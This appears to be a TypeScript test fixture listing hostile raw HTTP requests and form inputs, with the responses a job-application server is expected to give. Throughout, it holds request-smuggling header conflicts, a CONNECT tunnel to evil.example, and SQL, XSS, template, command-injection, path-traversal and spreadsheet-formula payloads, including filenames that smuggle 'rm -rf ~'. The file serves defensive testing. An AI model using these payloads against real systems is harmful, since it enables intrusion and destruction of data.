
const head = (lines: string) => `POST ${APPLY} HTTP/1.1\r\nHost: x\r\n${lines}\r\n\r\n`
const typeLine = `Content-Type: ${multipart['content-type']}`

const ofBytes = (name: string, raw: string, code: number, message: string): Hostile => ({
  name,
  raw,
  code,
  message,
})

const connections: Hostile[] = [
  ofBytes('bytes that are no HTTP', 'HELLO\r\n\r\n', 400, UNREADABLE),
  ofBytes('the beginning of TLS', '\x16\x03\x01\x02\x00\x01', 400, UNREADABLE),
  ofBytes('a header without end', `GET / HTTP/1.1\r\nX: ${'x'.repeat(20_000)}`, 431, TOO_LARGE),
  ofBytes(
    'a thousand headers',
    `GET / HTTP/1.1\r\n${repeat(1000, (n) => `X-${n}: ${'x'.repeat(30)}\r\n`)}\r\n`,
    431,
    TOO_LARGE,
  ),
  ofBytes(
    'an address of twenty thousand letters',
    `GET /${'x'.repeat(20_000)} HTTP/1.1\r\n\r\n`,
    431,
    TOO_LARGE,
  ),
  ofBytes('a length that is no number', head('Content-Length: ten'), 400, UNREADABLE),
  ofBytes('a length below nothing', head('Content-Length: -1'), 400, UNREADABLE),
  ofBytes('a length of forty figures', head(`Content-Length: ${'9'.repeat(40)}`), 400, UNREADABLE),
  ofBytes('two lengths', head('Content-Length: 1\r\nContent-Length: 2'), 400, UNREADABLE),
  ofBytes(
    'a length and chunks',
    `${head('Content-Length: 1\r\nTransfer-Encoding: chunked')}0\r\n\r\n`,
    400,
    UNREADABLE,
  ),
  ofBytes(
    'chunks that are none',
    `${head(`${typeLine}\r\nTransfer-Encoding: chunked`)}zz\r\n`,
    400,
    UNREADABLE,
  ),
  ofBytes('a coding that is none', head('Transfer-Encoding: rot13'), 400, UNREADABLE),
  ofBytes('a NUL in a header', 'GET / HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n', 400, UNREADABLE),
  ofBytes('a line break in a header name', 'GET / HTTP/1.1\r\nHost: x\r\nX\rY: a\r\n\r\n', 400, UNREADABLE),
  ofBytes('a folded header', 'GET / HTTP/1.1\r\nHost: x\r\n folded: a\r\n\r\n', 400, UNREADABLE),
  ofBytes('a method that is none', 'HACK / HTTP/1.1\r\nHost: x\r\n\r\n', 400, UNREADABLE),
  ofBytes('no host', 'GET /healthz HTTP/1.1\r\n\r\n', 400, ONE_HOST),
  ofBytes('two hosts', 'GET /healthz HTTP/1.1\r\nHost: x\r\nhost: y\r\n\r\n', 400, ONE_HOST),
  ofBytes('a space before a colon', head('Transfer-Encoding : chunked'), 400, UNREADABLE),
  ofBytes('a folded coding', head('Transfer-Encoding:\r\n chunked'), 400, UNREADABLE),
  ofBytes('two codings', head('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'), 400, UNREADABLE),
  ofBytes('one length twice', `${head('Content-Length: 2\r\nContent-Length: 2')}{}`, 400, UNREADABLE),
  ofBytes('a length with a sign', `${head('Content-Length: +2')}{}`, 400, UNREADABLE),
  ofBytes('line ends of one character alone', 'GET /healthz HTTP/1.1\nHost: x\n\n', 400, UNREADABLE),
  ofBytes(
    'a chunk beyond all numbers',
    `${head(`${typeLine}\r\nTransfer-Encoding: chunked`)}fffffffffffffffff\r\n`,
    400,
    UNREADABLE,
  ),
  ofBytes(
    'an expectation that nobody meets',
    head('Expect: 200-ok\r\nContent-Length: 2'),
    417,
    'The Expect header is not supported.',
  ),
  ofBytes('a tunnel', 'CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n', 405, WRONG_METHOD),
  ofBytes('a method of echoes', 'TRACE /web/job/get HTTP/1.1\r\nHost: x\r\n\r\n', 405, WRONG_METHOD),
  ofBytes(
    'a whole address',
    'GET http://evil.example/web/job/delete HTTP/1.1\r\nHost: x\r\n\r\n',
    404,
    NOTHING_HERE,
  ),
  ofBytes('another version of HTTP', 'GET / HTTP/9.9\r\nHost: x\r\n\r\n', 400, UNREADABLE),
]

/** Closed in the middle: nobody is there to be answered. */
const cut = (name: string, raw: string | Buffer): Hostile => ({ name, raw, ends: true, code: 0 })

const goneAway: Hostile[] = [
  cut('goes away at once', ''),
  cut('goes away in the headers', 'POST /web/job/apply-for-post HTT'),
  cut('goes away before the body', head(`${typeLine}\r\nContent-Length: 900000`)),
  cut(
    'goes away in a field',
    head(`${typeLine}\r\nContent-Length: 900000`) + part('name="job_id"', '10').slice(0, -2),
  ),
  cut(
    'goes away in a file',
    Buffer.from(
      head(`${typeLine}\r\nContent-Length: 900000`) +
        field('job_id', '1001') +
        part('name="resume"; filename="cv.doc"', docBytes().toString('latin1')).slice(0, -4),
      'latin1',
    ),
  ),
  cut('goes away in a chunk', `${head(`${typeLine}\r\nTransfer-Encoding: chunked`)}ffff\r\n--line`),
]

/** Stored like any other text: it does no harm in the database, an export or a mail. */
export const harmlessTexts = [
  "Robert'); DROP TABLE application;--",
  '" or ""="',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}${7*7}#{7*7}',
  '$(reboot) `reboot` | reboot',
  '../../etc/passwd',
  '%00%0d%0aSet-Cookie: a=b',
  '__proto__',
  'null',
  '=HYPERLINK("http://x","y")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  'नमस्ते \u202e gnp.exe',
]

const harmless: Hostile[] = [
  ...harmlessTexts.map((text) => contact(`the name ${text}`, { name: text }, CONTACT_SAVED, 200)),
  ...harmlessTexts.map((text) => application(`the name ${text}`, { full_name: text }, APPLIED, 200)),
  application('unknown fields', { is_admin: '1', id: 'x', __proto__x: 'y' }, APPLIED, 200),
  application('an unknown file', { shell: fileOf(PROGRAM, 'x.exe') }, APPLIED, 200),
  application('a path in a name', { resume: fileOf(docBytes(), '../../../etc/cron.d/cv.doc') }, APPLIED, 200),
  application(
    'a path of Windows in a name',
    { resume: fileOf(docBytes(), '..\\..\\x\\cv.doc') },
    APPLIED,
    200,
  ),
  application('quotes in a name', { resume: fileOf(docBytes(), 'a"; rm -rf ~; ".doc') }, APPLIED, 200),
]

export const hostileRequests: Hostile[] = [
  ...multipartBodies,
  ...types,
  ...plainBodies,
  ...values,
  ...files,
  ...addresses,
  ...connections,
  ...goneAway,
  ...harmless,
]
